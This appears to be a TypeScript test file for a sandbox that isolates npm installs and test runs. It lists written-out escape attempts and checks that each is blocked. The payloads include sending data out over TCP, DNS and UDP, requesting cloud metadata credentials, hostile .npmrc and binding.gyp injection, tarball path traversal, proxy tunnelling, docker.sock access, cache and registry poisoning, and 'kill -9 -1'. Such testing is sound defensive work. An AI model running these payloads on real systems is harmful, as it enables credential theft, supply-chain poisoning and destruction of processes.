// Attacks that want to reach somebody: the network, the registry, the cache, other processes.

import { existsSync, mkdirSync, readdirSync, writeFileSync } from 'node:fs';
import { networkInterfaces } from 'node:os';
import { join } from 'node:path';
import { setTimeout as wait } from 'node:timers/promises';
import { detects, none, shell, type Attack } from './attack.ts';
import type { Ground } from './ground.ts';

/** Datagrams and refusals on loopback are there within a few milliseconds. */
const SETTLE_MS = 100;

/** Where a trial could leave something for the next one. The project itself is made anew for each. */
const LATER_PLACES =
  '/tmp/tandem-poison /var/tmp/tandem-poison /dev/shm/tandem-poison ~/tandem-poison /tandem/tandem-poison /tandem/launchers/tandem-poison "${TMPDIR:-/tmp}/tandem-poison"';

export const REACHING: readonly Attack[] = [
  {
    name: 'sends data out by TCP',
    tries: 'It connects to the host under each of its addresses.',
    argv: ({ tcpPort }) => [
      'node',
      '-e',
      `for (const host of ${JSON.stringify(addresses())})
         require('net').connect({ port: ${tcpPort}, host, timeout: 500 }, function () { this.end('stolen'); })
           .on('error', () => {}).on('timeout', function () { this.destroy(); });`,
    ],
    ends: ['exited'],
    escaped: wasContacted,
    control: detects,
  },
  {
    name: 'sends data out by DNS',
    tries: 'It sends queries with stolen text in the name, to a server of its own and to the system’s.',
    argv: ({ udpPort }) => [
      'node',
      '-e',
      `const dns = require('dns');
       const resolver = new dns.Resolver({ timeout: 300, tries: 1 });
       resolver.setServers(['127.0.0.1:${udpPort}', ...${JSON.stringify(addresses())}.map((host) => host + ':${udpPort}')]);
       resolver.resolve4('stolen.example.com', () => dns.lookup('stolen.invalid', (error) => console.log(error?.code)));`,
    ],
    ends: ['exited'],
    escaped: wasContacted,
    control: detects,
  },
  {
    name: 'asks the cloud for its credentials',
    tries: 'It connects to the metadata addresses of the large clouds.',
    argv: () => [
      'node',
      '-e',
      `for (const host of ['169.254.169.254', '169.254.170.2', '100.100.100.200', 'fd00:ec2::254'])
         require('net').connect({ port: 80, host, timeout: 500 }, function () { console.log('reached', host); this.destroy(); })
           .on('error', (error) => console.log(error.code)).on('timeout', function () { console.log('reached for', host); this.destroy(); });`,
    ],
    ends: ['exited'],
    // Waiting for an answer already means that there is a way out.
    escaped: (_, { stdout }) => (stdout.includes('reached') ? stdout : null),
    control: none('it would really ask the cloud that this machine may run in'),
  },
  {
    name: 'sends another registry’s way',
    tries: 'Its .npmrc names another registry for a scope, and its own programs as git and shell.',
    phase: 'install',
    files: ({ tcpPort }) => ({
      'package.json':
        '{"name":"a","version":"1.0.0","dependencies":{"@evil/x":"1.0.0","g":"git+https://127.0.0.1/x.git"}}',
      '.npmrc': `@evil:registry=http://127.0.0.1:${tcpPort}/\nregistry=http://127.0.0.1:${tcpPort}/\nscript-shell=/project/evil\ngit=/project/evil\nfetch-retries=0\n`,
      evil: '#!/bin/sh\ntouch "$(dirname "$0")/pwned"\nexit 1\n',
    }),
    argv: () => ['npm', 'install', '--fetch-retries=0'],
    ends: ['exited'],
    escaped: async (ground) => (await wasContacted(ground)) ?? hasAppeared(ground, 'pwned'),
    control: detects,
  },
  {
    name: 'poisons the registry',
    tries: 'It publishes, deletes and logs in, through the proxy and past it.',
    phase: 'install',
    packages: [{ name: 'left', version: '1.0.0' }],
    argv: ({ registry }) => [
      'node',
      '-e',
      `(async () => {
        for (const url of [process.env.npm_config_registry, '${registry.url}'])
          for (const method of ['PUT', 'POST', 'DELETE', 'PATCH'])
            await fetch(url + 'left', { method, body: method === 'DELETE' ? undefined : '{}' }).catch(() => {});
      })()`,
    ],
    ends: ['exited'],
    escaped: ({ registry }) => {
      const changed = registry.requests().filter(({ method }) => method !== 'GET' && method !== 'HEAD');
      return changed.length === 0 ? null : `the registry got ${changed.map(({ method }) => method).join(', ')}`;
    },
    control: detects,
  },
  {
    name: 'poisons the cache',
    tries: 'While the tests run it writes into npm’s cache, where the next install would find it.',
    argv: ({ cache }) =>
      shell(
        `for place in ${cache} /tandem/cache "$npm_config_cache"; do mkdir -p $place; echo poison >$place/poison; done; true`,
      ),
    ends: ['exited'],
    escaped: ({ cache }) =>
      readdirSync(cache, { recursive: true }).some((name) => String(name).endsWith('poison'))
        ? 'the cache holds poison'
        : null,
    control: detects,
  },
  {
    name: 'runs a script at install',
    tries: 'A dependency has install scripts of every kind.',
    phase: 'install',
    files: () => ({
      'package.json':
        '{"name":"a","version":"1.0.0","dependencies":{"evil":"1.0.0"},"scripts":{"prepare":"touch pwned"}}',
    }),
    packages: [
      {
        name: 'evil',
        version: '1.0.0',
        manifest: {
          scripts: {
            preinstall: 'touch "$INIT_CWD/pwned"',
            install: 'touch "$INIT_CWD/pwned"',
            postinstall: 'touch "$INIT_CWD/pwned"',
          },
        },
      },
    ],
    argv: () => ['npm', 'install'],
    ends: ['exited'],
    escaped: (ground) => hasAppeared(ground, 'pwned'),
    control: none('scripts are off there too; that they would run is what npm is known for'),
  },
  {
    name: 'climbs out of a tarball',
    tries: 'A package’s tarball has paths with ../ and a link through which later entries are written.',
    phase: 'install',
    files: () => ({ 'package.json': '{"name":"a","version":"1.0.0","dependencies":{"slip":"1.0.0"}}' }),
    packages: [
      {
        name: 'slip',
        version: '1.0.0',
        rawEntries: [
          { path: 'package/../../../../pwned', content: 'x' },
          { path: 'package/out', content: '', linkTo: '../../../' },
          { path: 'package/out/pwned', content: 'x' },
          { path: '/pwned', content: 'x' },
        ],
      },
    ],
    argv: () => ['npm', 'install'],
    ends: ['exited'],
    escaped: (ground) =>
      hasAppeared(ground, '../pwned') ?? hasAppeared(ground, 'pwned') ?? (existsSync('/pwned') ? '/pwned' : null),
    control: none('npm itself refuses such paths'),
  },
  {
    name: 'ends a process of the host',
    tries: 'It signals a process of the host by its number, and opens its memory.',
    argv: ({ victim }) =>
      shell(`kill -9 ${victim.pid}; ( : >>/proc/${victim.pid}/mem ) 2>/dev/null && echo opened; true`),
    ends: ['exited'],
    async escaped({ victim }, { stdout }) {
      await wait(SETTLE_MS);
      return victim.signalCode === null && !stdout.includes('opened') ? null : 'the process of the host was reached';
    },
    control: detects,
  },
  {
    name: 'poisons a later trial',
    tries: 'It leaves files wherever the next trial could look: temporary folders, home, settings, our own tools.',
    argv: ({ canary }) => shell(`for place in ${LATER_PLACES}; do echo ${canary} >$place 2>/dev/null; done; true`),
    later: () => shell(`for place in ${LATER_PLACES}; do cat $place 2>/dev/null && rm -f $place; done; true`),
    ends: ['exited'],
    escaped: ({ canary }, { stdout }) => (stdout.includes(canary) ? 'the next trial met the poison' : null),
    control: detects,
  },
  {
    name: 'poisons a tree that trials share',
    tries: 'It writes, links, renames and mounts in installed packages that the next trial sees, too, by every path.',
    layers: ({ folder }, nth) => {
      const from = join(folder, 'shared');
      mkdirSync(join(from, 'pack'), { recursive: true });
      if (nth === 1) writeFileSync(join(from, 'pack/index.js'), 'harmless');
      return [{ from, changes: join(folder, `changes-${nth}`), at: '/project/node_modules' }];
    },
    argv: ({ canary, folder }) =>
      shell(
        `cd node_modules/pack; chmod 4777 . index.js; ln index.js linked; echo ${canary} >>linked; echo ${canary} >index.js
         truncate -s 0 index.js; mv index.js ../moved; ln -sf ../moved index.js; echo ${canary} >../pack/other.js; cd ..
         mkdir -p more && mv pack more/ 2>/dev/null; rm -rf pack; mkdir -p pack && echo ${canary} >pack/index.js
         for place in ${folder}/shared /proc/1/root${folder}/shared /proc/self/cwd/../shared $(grep -o 'lowerdir=[^,]*' /proc/self/mountinfo | cut -d= -f2); do
           echo ${canary} >$place/pack/index.js; echo ${canary} >$place/new.js; done 2>/dev/null
         mount -o remount,rw . 2>/dev/null; umount . 2>/dev/null && echo ${canary} >pack/index.js; true`,
      ),
    later: () => shell('cat node_modules/pack/*; ls -R node_modules'),
    ends: ['exited'],
    escaped: ({ canary, folder }, { stdout }) => {
      if (stdout.includes(canary)) return 'the next trial met the poison';
      if (!stdout.startsWith('harmless')) return `the next trial saw ${stdout.slice(0, 200)}`;
      const names = readdirSync(join(folder, 'shared'), { recursive: true }).map(String).sort().join(' ');
      return names === 'pack pack/index.js' ? null : `the tree holds ${names}`;
    },
    control: none('without a sandbox nothing is shared: each trial has a copy'),
  },
  {
    name: 'speaks with a service of the host',
    tries: 'It connects to sockets of the host: by path, by a name without a path, and those of well-known services.',
    argv: ({ localSockets }) => [
      'node',
      '-e',
      `for (const path of [...${JSON.stringify(localSockets)}, '/var/run/docker.sock', '/run/dbus/system_bus_socket'])
         require('net').connect({ path, timeout: 500 }, function () { this.end('stolen'); })
           .on('error', () => {}).on('timeout', function () { this.destroy(); });`,
    ],
    ends: ['exited'],
    escaped: wasContacted,
    control: detects,
  },
  {
    name: 'sends datagrams to everybody',
    tries: 'It sends to the host, to the whole network and to groups.',
    argv: ({ udpPort }) => [
      'node',
      '-e',
      `const socket = require('dgram').createSocket('udp4').on('error', () => {});
       socket.bind(() => {
         socket.setBroadcast(true);
         const all = [...${JSON.stringify(addresses())}, '255.255.255.255', '224.0.0.1'];
         let open = all.length;
         for (const host of all) socket.send('stolen', ${udpPort}, host, () => (open -= 1) === 0 && socket.close());
       });`,
    ],
    ends: ['exited'],
    escaped: wasContacted,
    control: detects,
  },
  {
    name: 'uses the registry’s proxy as a way out',
    tries: 'It asks the proxy for other hosts: by whole address, by tunnel, by host header, by tricks in the path.',
    phase: 'install',
    argv: ({ tcpPort }) => [
      'node',
      '-e',
      `(async () => {
        const { port } = new URL(process.env.npm_config_registry);
        const out = '127.0.0.1:${tcpPort}';
        const ask = (options) => new Promise((done) => require('http')
          .request({ port, timeout: 500, ...options }, (answer) => answer.resume().on('end', done))
          .on('connect', (_, socket) => { socket.end('GET / HTTP/1.0\\r\\n\\r\\n'); done(); })
          .on('timeout', function () { this.destroy(); }).on('error', done).end());
        await ask({ method: 'CONNECT', path: out });
        for (const path of ['http://' + out + '/', '//' + out + '/', '/http://' + out + '/', '/@' + out + '/', '/\\\\' + out])
          await ask({ path });
        await ask({ path: '/', headers: { host: out, 'x-forwarded-host': out } });
        await ask({ host: '127.0.0.1', port: ${tcpPort}, path: '/' });
      })()`,
    ],
    ends: ['exited'],
    escaped: wasContacted,
    control: detects,
  },
  {
    name: 'names its tarballs elsewhere',
    tries: 'A dependency’s dependency and a lockfile name an address outside of the registry.',
    phase: 'install',
    files: ({ tcpPort }) => ({
      'package.json': `{"name":"a","version":"1.0.0","dependencies":{"x":"http://127.0.0.1:${tcpPort}/x.tgz"}}`,
      'package-lock.json': `{"name":"a","version":"1.0.0","lockfileVersion":3,"packages":{"":{"name":"a","version":"1.0.0","dependencies":{"x":"http://127.0.0.1:${tcpPort}/x.tgz"}},"node_modules/x":{"version":"1.0.0","resolved":"http://127.0.0.1:${tcpPort}/x.tgz"}}}`,
    }),
    argv: () => ['npm', 'install', '--fetch-retries=0'],
    ends: ['exited'],
    escaped: wasContacted,
    control: none('tarballs are asked from the registry there too, whatever host they name'),
  },
  {
    name: 'turns install scripts on',
    tries: 'Its settings allow scripts, name a script shell and load code into Node.',
    phase: 'install',
    files: () => ({
      'package.json':
        '{"name":"a","version":"1.0.0","scripts":{"preinstall":"touch pwned","postinstall":"touch pwned"},"config":{"ignore-scripts":false}}',
      '.npmrc': 'ignore-scripts=false\nnode-options=--require=/project/evil.js\nonload-script=./evil.js\n',
      'evil.js': 'require("fs").writeFileSync("pwned", "")',
    }),
    argv: () => ['npm', 'install'],
    ends: ['exited'],
    escaped: (ground) => hasAppeared(ground, 'pwned'),
    control: none('scripts are off there too'),
  },
  {
    name: 'builds at install without a script',
    tries: 'A dependency has a binding.gyp, which npm builds unasked when scripts are on.',
    phase: 'install',
    files: () => ({ 'package.json': '{"name":"a","version":"1.0.0","dependencies":{"gyp":"1.0.0"}}' }),
    packages: [
      {
        name: 'gyp',
        version: '1.0.0',
        manifest: { gypfile: true },
        files: { 'binding.gyp': '{"targets":[{"target_name":"x","sources":["<!(touch /project/pwned)"]}]}' },
      },
    ],
    argv: () => ['npm', 'install'],
    ends: ['exited'],
    escaped: (ground) => hasAppeared(ground, 'pwned'),
    control: none('scripts are off there too'),
  },
  {
    name: 'stands in for npm and node',
    tries: 'It brings programs of their names, and the next trial must not run them.',
    files: () =>
      Object.fromEntries(
        ['node_modules/.bin/npm', 'node_modules/.bin/node', 'npm', 'node', 'node_modules/npm/bin/npm-cli.js'].map(
          (path) => [path, '#!/bin/sh\ntouch /project/pwned\n'],
        ),
      ),
    argv: () => shell('cp npm ~/npm; cp npm /tmp/npm; cp npm /usr/bin/npm; cp npm /tandem/launchers/npm; true'),
    later: () => ['npm', '--version'],
    ends: ['exited'],
    escaped: (ground, { stdout }) =>
      hasAppeared(ground, 'pwned') ?? (/^\d+\.\d+\.\d+\n$/.test(stdout) ? null : `npm said ${stdout}`),
    control: none('it would write over the host’s programs'),
  },
  {
    name: 'ends everything it may',
    tries: 'It signals every process it can see, and the groups of its parents.',
    argv: () => shell('kill -9 -1; kill -9 0 1; true'),
    ends: ['exited', 'killed'],
    async escaped({ victim }) {
      await wait(SETTLE_MS);
      return victim.signalCode === null ? null : 'a process of the host was ended';
    },
    control: none('it would end whatever its user runs'),
  },
];

async function wasContacted({ contacts }: Ground): Promise<string | null> {
  await wait(SETTLE_MS);
  return contacts() === 0 ? null : `the host was contacted ${contacts()} times`;
}

const hasAppeared = ({ project }: Ground, name: string): string | null =>
  existsSync(join(project, name)) ? `${name} has appeared` : null;

function addresses(): readonly string[] {
  const all = Object.values(networkInterfaces()).flat();
  return [
    '127.0.0.1',
    ...all.filter((one) => one?.family === 'IPv4' && !one.internal).map((one) => one?.address ?? ''),
  ];
}
